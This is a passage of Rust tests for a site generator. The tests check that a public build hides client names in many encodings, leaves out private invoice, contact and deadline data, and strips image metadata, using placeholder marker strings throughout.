                "Zqx7*Emph314* et **Zqx7**Emph314",
            ),
            (
                "emphasis-words.md",
                "Maison Zqx7Lumière315",
                "Maison *Zqx7Lumière315*",
            ),
            (
                "link.md",
                "Maison Zqx7Lien316",
                "Maison [Zqx7Lien316](https://example.org/)",
            ),
            ("code.md", "Maison Zqx7Code317", "Maison `Zqx7Code317`"),
            (
                "strong.md",
                "Maison Zqx7Strong318",
                "**Maison** Zqx7Strong318",
            ),
        ];
        let book = book();
        for (i, (file, client, text)) in cases.iter().enumerate() {
            book.file(
                &format!("content/missions/2025/{file}"),
                Journal::case_study(&format!("Étude {i}"), client, ALIAS).body(&format!(
                    "## Contexte\n\nZqx7Pub314 : chez {text}, voilà.\n"
                )),
            );
        }
        check(
            &book,
            &[
                ("Zqx7Emph314", "a name split by emphasis inside the word"),
                (
                    "Zqx7Lumière315",
                    "a two-word name with its second word emphasised",
                ),
                ("Zqx7Lien316", "a two-word name with its second word a link"),
                (
                    "Zqx7Code317",
                    "a two-word name with its second word a code span",
                ),
                (
                    "Zqx7Strong318",
                    "a two-word name with its first word strong",
                ),
            ],
            &["Zqx7Pub314", "Zqx7Alias300"],
        );
    }

    #[test]
    fn non_breaking_spaces_and_hyphens_match_a_space() {
        let book = case_study_naming(
            "Maison Zqx7Nbsp319",
            "## Contexte\n\nZqx7Pub319 : Maison\u{A0}Zqx7Nbsp319, Maison&nbsp;Zqx7Nbsp319, Maison-Zqx7Nbsp319, Maison\u{2011}Zqx7Nbsp319 et Maison\u{202F}Zqx7Nbsp319.\n",
        );
        check_name(
            &book,
            "Zqx7Nbsp319",
            "a two-word name joined by a no-break space or a hyphen",
            "Zqx7Pub319",
        );
    }

    #[test]
    fn a_name_in_code_spans_and_blocks_is_replaced() {
        let book = case_study_naming(
            "Zqx7Code320",
            "## Contexte\n\nZqx7Pub320 : la commande `deploy Zqx7Code320`.\n\n```sh\ncurl https://api.example/v1/Zqx7Code320\n```\n\n    indenté Zqx7Code320\n",
        );
        check_name(
            &book,
            "Zqx7Code320",
            "the client's name in code spans and code blocks",
            "Zqx7Pub320",
        );
    }

    #[test]
    fn a_name_in_image_alt_text_and_title_is_hidden() {
        let book = case_study_naming(
            "Zqx7Alt321",
            "## Contexte\n\nZqx7Pub321 : ![logo de Zqx7Alt321](logo.png) ![logo](logo.png \"Zqx7Alt321\")\n",
        );
        write_bytes(&book, "content/missions/2025/logo.png", &png(90, &[], &[]));
        check_name(
            &book,
            "Zqx7Alt321",
            "the client's name in image alt text and title",
            "Zqx7Pub321",
        );
    }

    #[test]
    fn a_name_in_a_heading_does_not_reach_its_id() {
        let book = case_study_naming(
            "Zqx7Tête322",
            "## Chez ZQX7TETE322\n\nZqx7Pub322 : arrivée.\n\n## Chez Zqx7Tête322 {#arrivee}\n\nSuite.\n",
        );
        check_name(
            &book,
            "Zqx7Tête322",
            "the client's name in heading text (ids, table of contents)",
            "Zqx7Pub322",
        );
    }

    #[test]
    fn a_name_in_a_raw_html_title_is_hidden() {
        let book = case_study_naming(
            "Zqx7RawTitle323",
            "## Contexte\n\nZqx7Pub323 : <abbr title=\"Zqx7RawTitle323\">HB</abbr>.\n",
        );
        check_name(
            &book,
            "Zqx7RawTitle323",
            "the client's name in a raw HTML `title`",
            "Zqx7Pub323",
        );
    }

    #[test]
    fn an_entity_encoded_name_in_a_raw_html_attribute_is_hidden() {
        let book = case_study_naming(
            "Zqx7RawEnt324",
            "## Contexte\n\nZqx7Pub324 : <abbr title=\"&#90;qx7RawEnt324\">HB</abbr> <span title=\"Zqx7Raw&#69;nt324\">x</span>.\n",
        );
        check_name(
            &book,
            "Zqx7RawEnt324",
            "the client's name entity-encoded in a raw HTML attribute",
            "Zqx7Pub324",
        );
    }

    #[test]
    fn a_name_in_a_raw_html_href_is_dropped() {
        let book = case_study_naming(
            "Zqx7RawHref325",
            "## Contexte\n\nZqx7Pub325 : <a href=\"https://www.zqx7rawhref325.fr/\">leur site</a>.\n",
        );
        check_name(
            &book,
            "Zqx7RawHref325",
            "the client's name in a raw HTML `href`",
            "Zqx7Pub325",
        );
    }

    /// Beyond the letter of privacy.md (it asks for NFC, not for confusable detection): a name
    /// written with Cyrillic look-alike letters reads as the client's name to anyone.
    #[test]
    fn a_name_written_with_cyrillic_look_alikes_is_found() {
        let book = case_study_naming(
            "Zqx7Homoglyph326",
            "## Contexte\n\nZqx7Pub326 : chez Zqx7H\u{43E}m\u{43E}glyph326.\n",
        );
        check_name(
            &book,
            "Zqx7Homoglyph326",
            "the client's name with Cyrillic `о` (U+043E) for `o`",
            "Zqx7Pub326",
        );
    }

    #[test]
    fn every_entry_of_client_names_is_hidden_like_client() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte Zqx7Brand328", "Société Zqx7Main327 SAS", ALIAS)
                .line("client_names: [\"Zqx7Brand328\", \"Jean Zqx7Contact329\"]")
                .set("tags", "[web, zqx7brand328]")
                .body("## Contexte\n\nZqx7Pub327 : Société Zqx7Main327 SAS, sa marque Zqx7Brand328 et son gérant Jean Zqx7Contact329.\n"),
        );
        check(
            &book,
            &[
                ("Zqx7Main327", "`client`"),
                (
                    "Zqx7Brand328",
                    "a `client_names` entry (brand) in title, tags and text",
                ),
                ("Zqx7Contact329", "a `client_names` entry (contact's name)"),
            ],
            &["Zqx7Pub327", "Zqx7Alias300"],
        );
    }

    /// The detector decodes percent-encoding: privacy.md must too, for URLs.
    #[test]
    fn a_percent_encoded_name_in_a_url_is_dropped() {
        let book = case_study_naming(
            "Zqx7Pct330",
            "## Contexte\n\nZqx7Pub330 : [recherche](https://example.org/?q=Zqx7%50ct330) et <https://example.org/Zqx7%50ct330>.\n",
        );
        check_name(
            &book,
            "Zqx7Pct330",
            "the client's name percent-encoded in a URL (`Zqx7%50ct…`)",
            "Zqx7Pub330",
        );
    }

    /// Version 1 already replaces these: they must stay replaced.
    #[test]
    fn a_name_in_ordinary_places_is_replaced() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte pour Maison Zqx7Plain331", "Maison Zqx7Plain331", ALIAS)
                .body(
                    "## Chez Maison Zqx7Plain331\n\nZqx7Pub331 : Maison Zqx7Plain331 a validé, puis MAISON ZQX7PLAIN331 aussi, et Maison\nZqx7Plain331 sur deux lignes.\n\n- [ ] Maison Zqx7Plain331 dans une liste\n\n| client | avis |\n|---|---|\n| Maison Zqx7Plain331 | bon |\n\n> Maison Zqx7Plain331 en citation, [Maison Zqx7Plain331](https://example.org/) en lien, une note[^n].\n\n[^n]: Maison Zqx7Plain331 en note.\n",
                ),
        );
        check_name(
            &book,
            "Zqx7Plain331",
            "the client's name in title, heading, text, list, table, quote, link text, footnote",
            "Zqx7Pub331",
        );
    }

    #[test]
    fn a_name_in_the_title_without_accents_is_replaced_everywhere_the_title_goes() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte pour ZQX7TITRE332", "Zqx7Titré332", ALIAS)
                .body("## Contexte\n\nZqx7Pub332 : refonte.\n"),
        );
        check_name(
            &book,
            "Zqx7Titré332",
            "the client's name without accents in the title (<title>, h1, cards, feed, search)",
            "Zqx7Pub332",
        );
    }

    #[test]
    fn the_public_url_comes_from_the_title_not_the_file_name() {
        let book = book();
        book.file(
            "content/missions/2025/refonte-hotelzqx7slug333.md",
            Journal::case_study("Refonte du site", "Hôtel Zqx7Slug333", ALIAS)
                .body("## Contexte\n\nZqx7Pub333 : refonte.\n"),
        );
        let site = check_name(
            &book,
            "Zqx7Slug333",
            "the client's name glued into the file name (`hotelzqx7slug…`)",
            "Zqx7Pub333",
        );
        let pages = site.mission_pages();
        assert!(
            pages.len() == 1 && pages[0].starts_with("missions/refonte-du-site"),
            "the case study's URL comes from its title: {pages:?}"
        );
    }

    #[test]
    fn a_name_as_a_heading_attribute_id_is_hidden() {
        let book = case_study_naming(
            "Zqx7AttrId334",
            "## Résultats {#zqx7attrid334}\n\nZqx7Pub334 : +30 %.\n\n## Suite {#suite .Zqx7AttrId334}\n\nFin.\n",
        );
        check_name(
            &book,
            "Zqx7AttrId334",
            "the client's name as a heading's `{#id}` or class",
            "Zqx7Pub334",
        );
    }

    #[test]
    fn a_name_in_an_image_file_name_is_hidden() {
        let book = case_study_naming(
            "Zqx7ImgName335",
            "## Contexte\n\nZqx7Pub335 : le plan.\n\n![plan](img/plan-zqx7imgname335.png)\n",
        );
        write_bytes(
            &book,
            "content/missions/2025/img/plan-zqx7imgname335.png",
            &png(60, &[], &[]),
        );
        check_name(
            &book,
            "Zqx7ImgName335",
            "the client's name in an image's file name",
            "Zqx7Pub335",
        );
    }
}

/// Front-matter facts and dates: a public build shows none of them; a lessons-only mission shows
/// only its year; a case study whose `client` is missing or invalid is not published at all.
mod facts {
    use super::*;

    #[test]
    fn a_case_study_without_a_valid_client_is_left_out_with_a_warning() {
        let book = book();
        let base = || Journal::case_study("Étude de cas", "Zqx7Unused400", "une agence");
        let cases = [
            (
                "sans-client.md",
                base().without("client"),
                "Zqx7NoClient401",
                "no `client`",
            ),
            (
                "client-nombre.md",
                base().set("client", "42"),
                "Zqx7BadClient402",
                "`client: 42`",
            ),
            (
                "client-vide.md",
                base().set("client", "\"  \""),
                "Zqx7EmptyClient403",
                "`client: \"  \"`",
            ),
            (
                "client-liste.md",
                base().set("client", "[Zqx7ListA404, Zqx7ListB404]"),
                "Zqx7ListClient404",
                "`client` is a list",
            ),
        ];
        for (file, journal, marker, _) in &cases {
            book.file(
                &format!("content/missions/2025/{file}"),
                journal.body(&format!(
                    "## Contexte\n\n{marker} : Agence Dupont, rue des Lilas.\n"
                )),
            );
        }
        book.file(
            "content/missions/2025/valide.md",
            base().body("## Contexte\n\nZqx7Pub401 : une étude publiable.\n"),
        );
        let secrets: Vec<(&str, String)> = cases
            .iter()
            .map(|(_, _, m, why)| (*m, format!("body of a case study with {why}")))
            .collect();
        let secrets: Vec<Secret> = secrets.iter().map(|(m, w)| (*m, w.as_str())).collect();
        let site = check(&book, &secrets, &["Zqx7Pub401"]);
        let missing: Vec<&str> = cases
            .iter()
            .map(|(file, ..)| *file)
            .filter(|f| !site.stderr.contains(f))
            .collect();
        assert!(
            missing.is_empty(),
            "each left-out case study gets a build warning naming its file; none for {missing:?}:\n{}",
            site.stderr
        );
    }

    const FACTS: &str = r#"contract: { signed: 2037-01-05, termination_checked: 2037-01-06, notice_days: 30 }
notice: { given: 2037-02-02, channel: email }
deposit: { amount: 64128.5, requested: 2037-01-12, received: 2037-01-19 }
invoices:
  - { number: "Zqx7Inv405", amount: 73519.27, issued: 2037-03-01, due: 2037-03-31, paid: 2037-04-02, rar: "Zqx7Rar406" }
feedback: { requested: 2037-05-01, received: 2037-05-02 }
recommendation: { requested: 2037-05-03, received: 2037-05-04 }
rgpd: { notified: 2037-06-01, deleted: 2037-06-02, hold: "Zqx7Hold407 : litige en cours" }
client_contact: { name: "Zqx7Contact408", email: "zqx7mail409@example.org", address: "12 rue Zqx7Addr410\n69003 Lyon" }
end_reason: "Zqx7Reason411 : le client a tout internalisé"
lint: { allow: [ { rule: access-open, reason: "Zqx7Allow412 : compte gardé exprès" } ] }"#;

    #[test]
    fn front_matter_facts_never_reach_the_public_build() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client405", "une agence")
                .set("case_study", "{ consent: 2037-07-01 }")
                .line(FACTS)
                .body("## Contexte\n\nZqx7Pub405 : une refonte.\n"),
        )
        .file(
            "content/missions/2024/bilan.md",
            Journal::lessons("Bilan", "Zqx7Client413", Some("une école"))
                .line(&FACTS.replace("Zqx7", "Zqx7L"))
                .body("## Leçons\n\nZqx7Pub406 : écrire le devis.\n"),
        );
        let site = check(
            &book,
            &[
                ("Zqx7Inv405", "invoice number"),
                ("Zqx7Rar406", "registered letter number"),
                ("Zqx7Hold407", "`rgpd.hold`"),
                ("Zqx7Contact408", "`client_contact.name`"),
                ("zqx7mail409", "`client_contact.email`"),
                ("Zqx7Addr410", "`client_contact.address`"),
                ("Zqx7Reason411", "a free-text `end_reason`"),
                ("Zqx7Allow412", "a `lint.allow` reason"),
                ("Zqx7LInv405", "invoice number (lessons mission)"),
                ("Zqx7LRar406", "registered letter number (lessons mission)"),
                ("Zqx7LHold407", "`rgpd.hold` (lessons mission)"),
                ("Zqx7LContact408", "`client_contact.name` (lessons mission)"),
                (
                    "Zqx7LReason411",
                    "a free-text `end_reason` (lessons mission)",
                ),
                ("Zqx7LAllow412", "a `lint.allow` reason (lessons mission)"),
            ],
            &["Zqx7Pub405", "Zqx7Pub406"],
        );
        assert_no_literal(
            &site,
            &[
                (
                    "2037",
                    "every contract, notice, deposit, invoice, feedback, RGPD and consent date is in 2037",
                ),
                ("73519", "an invoice amount"),
                ("73 519", "an invoice amount, grouped"),
                ("73\u{a0}519", "an invoice amount, grouped"),
                (
                    "73\u{202f}519,27",
                    "an invoice amount, as the private view prints it",
                ),
                ("64128", "a deposit amount"),
                ("64 128", "a deposit amount, grouped"),
                ("64\u{a0}128", "a deposit amount, grouped"),
            ],
        );
    }

    /// `[author]` (who signs the letters) and `[money]` are private: `book.toml` reaches no page,
    /// feed, sitemap or file name of a public build.
    #[test]
    fn the_author_table_never_reaches_the_public_build() {
        let book = TempBook::with_toml(&format!(
            "{BOOK_TOML}\n[author]\nname = \"Zqx7Author417\"\nbusiness = \"Zqx7Business418 EI\"\nsiret = \"Zqx7Siret419\"\naddress = \"12 rue Zqx7AuthAddr420\\n69003 Lyon\"\nemail = \"zqx7authmail421@example.org\"\nphone = \"06 98 76 54 32\"\ncity = \"Zqx7City422\"\n\n[money]\nlate-rate = 47.31\nformal-notice-days = 13\nvat = \"none\"\n"
        ));
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client417", "une agence")
                .line("client_contact: { name: \"Zqx7Contact423\", email: \"zqx7mail424@example.org\", address: \"3 place Zqx7Addr425\\n69001 Lyon\" }")
                .body("## Contexte\n\nZqx7Pub417 : une refonte.\n"),
        );
        let site = check(
            &book,
            &[
                ("Zqx7Author417", "`[author] name`"),
                ("Zqx7Business418", "`[author] business`"),
                ("Zqx7Siret419", "`[author] siret`"),
                ("Zqx7AuthAddr420", "`[author] address`"),
                ("zqx7authmail421", "`[author] email`"),
                ("Zqx7City422", "`[author] city`"),
                ("Zqx7Contact423", "`client_contact.name`"),
                ("zqx7mail424", "`client_contact.email`"),
                ("Zqx7Addr425", "`client_contact.address`"),
            ],
            &["Zqx7Pub417"],
        );
        assert_no_literal(
            &site,
            &[
                ("06 98 76 54 32", "`[author] phone`"),
                ("0698765432", "`[author] phone`, without spaces"),
                ("47.31", "`[money] late-rate`"),
                ("47,31", "`[money] late-rate`, in French"),
            ],
        );
    }

    /// The deadlines (`deadlines.md`) are private: the public build has no `deadlines.ics`, no
    /// link to it and none of its to-dos, while the private build of the same book has them.
    #[test]
    fn deadlines_never_reach_the_public_build() {
        let book = book();
        let open = "invoices:\n  - { number: \"Zqx7DueInv430\", amount: 73519.27, issued: 2037-01-30, due: 2037-02-28 }";
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client430", "une agence")
                .set("case_study", "{ consent: 2037-07-01 }")
                .line(open)
                .body(
                    "## Accès\n\n- [ ] Zqx7Access431\n\n## Contexte\n\nZqx7Pub430 : une refonte.\n",
                ),
        );
        let private = site_of(book.root(), "private");
        let calendar = String::from_utf8_lossy(&private.files["deadlines.ics"]).into_owned();
        assert!(
            calendar.contains("Zqx7DueInv430") && calendar.contains("Zqx7Access431"),
            "{calendar}"
        );
        let site = check(
            &book,
            &[
                ("Zqx7DueInv430", "an unpaid invoice's to-do"),
                ("Zqx7Access431", "an access item's to-do"),
            ],
            &["Zqx7Pub430"],
        );
        assert!(
            !site.paths.iter().any(|p| p.ends_with(".ics")),
            "{:?}",
            site.paths
        );
        assert_no_literal(
            &site,
            &[
                ("deadlines.ics", "a link to the private calendar"),
                ("VTODO", "a calendar to-do"),
                ("NEEDS-ACTION", "a calendar to-do"),
            ],
        );
    }

    #[test]
    fn a_lessons_only_mission_shows_only_its_year() {
        let book = book();
        book.file(
            "content/missions/2023/bilan.md",
            Journal::lessons("Bilan", "Zqx7Client414", Some("une école"))
                .set("start", "2023-02-13")
                .set("end", "2023-11-27")
                .body("## Journal\n\n### 2023-02-13 — Lancement\n\nAtelier.\n\n## Leçons\n\nZqx7Pub414 : écrire le devis.\n"),
        )
        .file(
            "content/missions/2022/bilan.md",
            Journal::lessons("Bilan ancien", "Zqx7Client415", None)
                .set("start", "2022-03-14")
                .set("end", "2022-08-19")
                .body("## Leçons\n\nZqx7Pub415 : facturer un acompte.\n"),
        )
        .file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client416", "une agence")
                .body("## Contexte\n\nZqx7Pub416 : une refonte.\n"),
        );
        let site = check(&book, &[], &["Zqx7Pub414", "Zqx7Pub415", "Zqx7Pub416"]);
        for rel in [
            "atom.xml",
            "sitemap.xml",
            "static/search-index.js",
            "lessons/index.html",
            "missions/index.html",
        ] {
            assert!(site.files.contains_key(rel), "{rel} is written");
        }
        assert_no_literal(
            &site,
            &[
                ("2023-02", "start month of a lessons-only mission"),
                (
                    "2023-11",
                    "end month of a lessons-only mission (atom.xml `updated`)",
                ),
                ("13/02/2023", "start date of a lessons-only mission"),
                ("27/11/2023", "end date of a lessons-only mission"),
                ("fevrier 2023", "start month of a lessons-only mission"),
                ("novembre 2023", "end month of a lessons-only mission"),
                (
                    "2022-03",
                    "start month of a lessons-only mission without alias",
                ),
                (
                    "2022-08",
                    "end month of a lessons-only mission without alias",
                ),
                (
                    "14/03/2022",
                    "start date of a lessons-only mission without alias",
                ),
                (
                    "19/08/2022",
                    "end date of a lessons-only mission without alias",
                ),
                (
                    "mars 2022",
                    "start month of a lessons-only mission without alias",
                ),
                (
                    "aout 2022",
                    "end month of a lessons-only mission without alias",
                ),
            ],
        );
    }
}

/// Images are published only as images: PNG/JPEG/GIF/WebP/AVIF by their magic bytes, under a
/// content-hashed name, with their metadata stripped.
mod image_metadata {
    use super::*;

    fn case_study_showing(image: &str, public: &str) -> TempBook {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client500", "une boutique").body(&format!(
                "## Contexte\n\n{public} : la nouvelle façade.\n\n![façade]({image})\n"
            )),
        );
        book
    }

    /// The one published asset, checked to be referenced by a page.
    fn the_published_asset(site: &Site) -> (String, Vec<u8>) {
        let assets = site.assets();
        assert_eq!(
            assets.len(),
            1,
            "the image is published, once: {:?}",
            site.files.keys().collect::<Vec<_>>()
        );
        let (rel, bytes) = assets[0];
        let name = rel.rsplit('/').next().unwrap();
        assert!(
            site.files
                .iter()
                .any(|(k, v)| k.ends_with(".html") && String::from_utf8_lossy(v).contains(name)),
            "a page shows {rel}"
        );
        (rel.to_string(), bytes.to_vec())
    }

    #[test]
    fn png_text_chunks_and_exif_are_stripped() {
        let image = png(
            128,
            &[
                png_text("Author", "Zqx7PngText501"),
                png_itxt("Comment", "Zqx7PngItxt502"),
                png_ztxt("Description", "Zqx7PngZtxt503"),
                png_chunk(
                    b"eXIf",
                    &exif_tiff("Zqx7PngExif504", "Zqx7PngArtist505", "Zqx7PngGps506"),
                ),
            ],
            &[png_text("Software", "Zqx7PngAfter507")],
        );
        let book = case_study_showing("img/zqx7pngfile508.png", "Zqx7Pub501");
        write_bytes(
            &book,
            "content/missions/2025/img/zqx7pngfile508.png",
            &image,
        );
        let site = check(
            &book,
            &[
                ("Zqx7PngText501", "PNG `tEXt` chunk"),
                ("Zqx7PngItxt502", "PNG `iTXt` chunk"),
                ("Zqx7PngZtxt503", "PNG `zTXt` chunk (stored deflate)"),
                ("Zqx7PngExif504", "PNG `eXIf` ImageDescription"),
                ("Zqx7PngArtist505", "PNG `eXIf` Artist"),
                ("Zqx7PngGps506", "PNG `eXIf` GPS IFD"),
                ("Zqx7PngAfter507", "PNG `tEXt` chunk after IDAT"),
                ("zqx7pngfile508", "the image's file name"),
            ],
            &["Zqx7Pub501"],
        );
        let (rel, bytes) = the_published_asset(&site);
        assert!(rel.ends_with(".png"), "{rel}");
        let chunks = png_chunks(&bytes).unwrap_or_else(|e| panic!("{rel} is not a valid PNG: {e}"));
        for text in ["tEXt", "iTXt", "zTXt", "eXIf"] {
            assert!(
                !chunks.iter().any(|c| c == text),
                "{rel} keeps {text}: {chunks:?}"
            );
        }
    }

    #[test]
    fn jpeg_exif_xmp_and_comments_are_stripped() {
        let image = jpeg(&[
            jpeg_exif(&exif_tiff(
                "Zqx7JpegDesc511",
                "Zqx7JpegArtist512",
                "Zqx7JpegGps513",
            )),
            jpeg_xmp("Zqx7JpegXmp514"),
            jpeg_comment("Zqx7JpegCom515 : photo chez le client"),
        ]);
        let book = case_study_showing("img/zqx7jpegfile516.jpg", "Zqx7Pub511");
        write_bytes(
            &book,
            "content/missions/2025/img/zqx7jpegfile516.jpg",
            &image,
        );
        let site = check(
            &book,
            &[
                ("Zqx7JpegDesc511", "JPEG APP1 Exif ImageDescription"),
                ("Zqx7JpegArtist512", "JPEG APP1 Exif Artist"),
                ("Zqx7JpegGps513", "JPEG APP1 Exif GPS IFD"),
                ("Zqx7JpegXmp514", "JPEG APP1 XMP"),
                ("Zqx7JpegCom515", "JPEG COM segment"),
                ("zqx7jpegfile516", "the image's file name"),
            ],
            &["Zqx7Pub511"],
        );
        let (rel, bytes) = the_published_asset(&site);
        assert!(rel.ends_with(".jpg") || rel.ends_with(".jpeg"), "{rel}");
        let segments =
            jpeg_segments(&bytes).unwrap_or_else(|e| panic!("{rel} is not a valid JPEG: {e}"));
        assert!(
            !segments.iter().any(|(m, _)| *m == 0xE1 || *m == 0xFE),
            "{rel} keeps APP1 or COM"
        );
    }

    /// Beyond the chunks privacy.md lists: a GIF comment, a JPEG IPTC block (APP13) and a
    /// private PNG chunk carry text too. Keeping only what renders the image strips them.
    #[test]
    fn image_metadata_beyond_the_listed_chunks_is_stripped_too() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client520", "une boutique").body(
                "## Contexte\n\nZqx7Pub521 : trois images.\n\n![a](a.gif) ![b](b.jpg) ![c](c.png)\n",
            ),
        );
        write_bytes(
            &book,
            "content/missions/2025/a.gif",
            &gif_with_comment("Zqx7GifCom521 chez le client"),
        );
        write_bytes(
            &book,
            "content/missions/2025/b.jpg",
            &jpeg(&[jpeg_iptc("Zqx7JpegIptc522")]),
        );
        write_bytes(
            &book,
            "content/missions/2025/c.png",
            &png(30, &[png_chunk(b"prVt", b"Zqx7PngPrivate523")], &[]),
        );
        let site = check(
            &book,
            &[
                ("Zqx7GifCom521", "GIF comment extension"),
                ("Zqx7JpegIptc522", "JPEG APP13 IPTC By-line"),
                ("Zqx7PngPrivate523", "a private ancillary PNG chunk `prVt`"),
            ],
            &["Zqx7Pub521"],
        );
        assert_eq!(site.assets().len(), 3, "the three images are published");
    }

    #[test]
    fn an_image_shown_only_in_a_private_section_is_not_copied() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client530", "une boutique").body(
                "## Contexte\n\nZqx7Pub531 : la façade.\n\n![façade](public.png)\n\n## Accès\n\n![capture du back-office](capture.png)\n",
            ),
        );
        write_bytes(
            &book,
            "content/missions/2025/public.png",
            &png(10, &[], &[]),
        );
        write_bytes(
            &book,
            "content/missions/2025/capture.png",
            &png(200, &[], &[]),
        );
        let site = check(&book, &[], &["Zqx7Pub531"]);
        the_published_asset(&site);
    }
}

/// Lint and build agree on what is public: `client-name-leak` fires once for each occurrence of
/// a name in text the public build shows (and has to substitute), never for text it drops.
mod lint_agreement {
    use super::*;

    /// The (path, line) of each `client-name-leak` of a lint run, sorted.
    fn leak_lines(root: &std::path::Path) -> Vec<(String, usize)> {
        let mut lines: Vec<(String, usize)> = name_leaks(&lint_json(root))
            .into_iter()
            .map(|(p, l, _)| (p, l as usize))
            .collect();
        lines.sort();
        lines
    }

    #[test]
    fn a_name_in_a_private_subsection_of_the_lessons_is_not_reported() {
        let book = book();
        book.file(
            "content/missions/2024/bilan.md",
            Journal::lessons("Bilan", "Zqx7Client601", Some("une école Zqx7Alias601")).body(
                "## Leçons\n\nZqx7Pub601 : cadrer le périmètre.\n\n### Accès\n\n- [x] compte de Zqx7Client601 fermé\n\n### Suite\n\nZqx7Pub602 : relancer tôt.\n",
            ),
        )
        .file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client603", "une boutique Zqx7Alias603").body(
                "## Contexte\n\nZqx7Pub603.\n\n#### Factures\n\nFacture de Zqx7Client603 payée.\n\n## Accès (outils)\n\nCompte GTM de Zqx7Client603.\n",
            ),
        );
        assert_eq!(
            leak_lines(book.root()),
            Vec::<(String, usize)>::new(),
            "the build never publishes these names: lint must not report them"
        );
        check(
            &book,
            &[
                (
                    "Zqx7Client601",
                    "client named in `### Accès` nested in `## Leçons`",
                ),
                (
                    "Zqx7Client603",
                    "client named in `#### Factures` and `## Accès (outils)`",
                ),
            ],
            &["Zqx7Pub601", "Zqx7Pub602", "Zqx7Pub603"],
        );
    }

    #[test]
    fn a_near_miss_is_neither_reported_nor_replaced() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Roussel604", "une boutique Zqx7Alias604")
                .body("## Contexte\n\nZqx7Pub604 : le cabinet Zqx7Roussel604ot n'a rien à voir.\n"),
        )
        .file(
            "content/missions/2025/cabinet.md",
            Journal::case_study("Étude", "Cabinet Zqx7Rous605", "un cabinet Zqx7Alias605")
                .body("## Contexte\n\nZqx7Pub605 : Zqx7Rous605 seul n'est pas le nom du client.\n"),
        );
        assert_eq!(
            leak_lines(book.root()),
            Vec::<(String, usize)>::new(),
            "whole words only: `Zqx7Roussel604ot` is not `Zqx7Roussel604`, `Zqx7Rous605` alone is not `Cabinet Zqx7Rous605`"
        );
        check(
            &book,
            &[],
            &["Zqx7Pub604", "Zqx7Roussel604ot", "Zqx7Pub605"],
        );
    }

    /// Ways to write a name that the contract matches (`{n}` is a placement's number): each is
    /// exactly one occurrence. The client is `Maison Zqx7Lumière`, `client_names` has
    /// `Zqx7Marque` and `L'Atelier Zqx7Apos`.
    pub const FORMS: &[&str] = &[
        "Maison Zqx7Lumière",
        "MAISON ZQX7LUMIÈRE",
        "maison zqx7LUMIÈRE",
        "Maison Zqx7Lumiere",
        "Maison Zqx7Lumie\u{301}re",
        "Maison Zqx7Lu\u{200B}mière",
        "Maison Zqx7Lu\u{AD}mière",
        "&#77;aison Zqx7Lumière",
        "Maison Zqx7Lumi&egrave;re",
        "Maison *Zqx7Lumière*",
        "Maison\u{A0}Zqx7Lumière",
        "Maison-Zqx7Lumière",
        "Maison\nZqx7Lumière",
        "[Maison Zqx7Lumière](https://example.org/)",
        "`Maison Zqx7Lumière`",
        "Zqx7Marque",
        "[le site](https://www.zqx7marque.fr/)",
        "[le site](https://example.org/ \"Zqx7Marque\")",
        "![logo Zqx7Marque](logo.png)",
        "L’Atelier Zqx7Apos",
        "HEADING",
        "TABLE",
    ];

    pub const CLIENT: &str = "Maison Zqx7Lumière";
    pub const CLIENT_NAMES: &str = "client_names: [\"Zqx7Marque\", \"L'Atelier Zqx7Apos\"]";
    pub const ALIAS: &str = "une boutique Zqx7Alias600";
    /// The distinctive word of each name: none may reach the public build.
    pub const NAME_WORDS: &[Secret] = &[
        ("Zqx7Lumière", "`client`"),
        ("Zqx7Marque", "a `client_names` entry"),
        ("Zqx7Apos", "a `client_names` entry with an apostrophe"),
    ];

    /// Where a name placement goes.
    #[derive(Debug, Clone, Copy, PartialEq)]
    pub enum Spot {
        /// The lessons section (public for both kinds).
        Lessons,
        /// `## Contexte`: public in a case study, private in a lessons-only mission.
        Context,
        /// `### Accès` nested at the end of the lessons.
        Nested,
        /// An HTML comment in the lessons.
        Comment,
        /// A top-level private section (index into `PRIVATE_HEADINGS`).
        Private(usize),
        /// `## Accès` after a setext heading.
        Setext,
    }

    pub const PRIVATE_HEADINGS: &[&str] = &[
        "## Accès",
        "## Facture",
        "## Accès (outils)",
        "## RGPD : suppression",
        "## Invoices",
        "### Données personnelles",
    ];

    /// A journal naming its client in `placements` (form, spot), its title naming the client
    /// when `title_named`, its tags naming the brand when `tags_named`; with the 1-based lines
    /// where lint must report `client-name-leak`.
    pub fn agreement_journal(
        case_study: bool,
        title_named: bool,
        tags_named: bool,
        placements: &[(usize, Spot)],
    ) -> (String, Vec<usize>) {
        let journal = if case_study {
            let title = if title_named {
                format!("Refonte pour {CLIENT}")
            } else {
                "Refonte du site".to_string()
            };
            Journal::case_study(&title, CLIENT, ALIAS)
        } else {
            Journal::lessons(&format!("Bilan {CLIENT}"), CLIENT, Some(ALIAS))
        };
        let journal = journal.line(CLIENT_NAMES).set(
            "tags",
            if tags_named {
                "[web, zqx7marque]"
            } else {
                "[web]"
            },
        );
        let mut expected = Vec::new();
        if case_study && title_named {
            expected.push(journal.key_line("title"));
        }
        if tags_named {
            expected.push(journal.key_line("tags"));
        }
        let first_line = journal.front_lines() + 2;
        let mut body = String::new();
        let mut place = |body: &mut String, form: usize, public: bool, comment: bool| {
            let line = first_line + body.matches('\n').count();
            let (text, offset) = match FORMS[form] {
                "HEADING" => (format!("#### Chez {CLIENT}\n\n"), 0),
                "TABLE" => (format!("| avis |\n|---|\n| chez {CLIENT} |\n\n"), 2),
                f => (format!("Texte chez {f} ici.\n\n"), 0),
            };
            if comment {
                body.push_str(&format!("<!-- {} -->\n\n", text.trim_end()));
            } else {
                body.push_str(&text);
                if public {
                    expected.push(line + offset);
                }
            }
        };
        let of = |spot: Spot| placements.iter().filter(move |(_, s)| *s == spot);
        body.push_str("## Contexte\n\nUn contexte.\n\n");
        for (form, _) in of(Spot::Context) {
            place(&mut body, *form, case_study, false);
        }
